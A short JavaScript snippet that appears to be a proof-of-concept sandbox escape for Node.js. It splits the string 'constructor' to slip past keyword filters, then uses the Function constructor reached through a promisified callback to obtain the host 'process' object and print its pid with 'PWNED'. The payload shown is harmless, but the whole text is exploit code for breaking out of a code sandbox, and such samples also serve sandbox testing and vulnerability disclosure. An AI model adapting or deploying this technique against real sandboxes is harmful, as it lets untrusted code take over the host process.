const w = ['con', 'structor'].join('');
const promisify = require('util').promisify;
const f = promisify((x, done) => console.log('PWNED', done[w]('return process')().pid));
f(1);
